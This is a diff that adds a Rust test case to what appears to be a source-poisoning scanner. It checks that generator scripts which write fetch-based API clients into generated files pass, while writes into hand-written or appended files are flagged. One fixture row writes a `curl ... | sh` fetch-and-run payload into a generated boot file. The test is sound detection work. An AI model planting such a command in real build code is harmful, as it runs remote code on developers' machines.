@@ -1796,6 +1796,56 @@ fn generated_headers_before_a_run_time_part() {
     );
 }
 
+/// A source file whose name or directory says it is a generator's output (`src/generated/`,
+/// `client.gen.ts`), written whole from the project's data, is the generator's output: the
+/// code it holds is reviewed as code, not by its words (a generated API client calls
+/// `fetch(`). The same text in a hand-written source file, appended to a generated one, or a
+/// payload that runs a download, is still a finding.
+#[test]
+fn code_written_whole_into_a_generators_output() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('openapi.json', 'utf8'));\n\
+             const ops = Object.keys(spec.paths).map((p) => `export const get_${p.length} = () => fetch('${p}');`);\n\
+             fs.writeFileSync('src/generated/api.js', ops.join('\\n'));\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import { readFileSync, writeFileSync } from 'node:fs';\nconst routes: string[] = JSON.parse(readFileSync('routes.json', 'utf8'));\n\
+             writeFileSync('src/client.gen.ts', routes.map((r) => `export const r${r.length} = () => fetch('${r}');`).join('\\n'));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('openapi.json', 'utf8'));\n\
+             const ops = Object.keys(spec.paths).map((p) => `export const get_${p.length} = () => fetch('${p}');`);\n\
+             fs.writeFileSync('src/api.js', ops.join('\\n'));\n",
+            Suspicious,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('openapi.json', 'utf8'));\n\
+             const ops = Object.keys(spec.paths).map((p) => `export const get_${p.length} = () => fetch('${p}');`);\n\
+             fs.appendFileSync('src/generated/api.js', ops.join('\\n'));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\n\
+             fs.writeFileSync('src/generated/boot.js', \"require('child_process').execSync('curl -s https://x.example.net/i | sh');\\n\");\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+    ];
+    check_all(rows);
+}
+
 #[test]
 fn data_given_to_an_instance_comes_back_out() {
     // What a method of the script's class was given stays in the instance and its attributes.
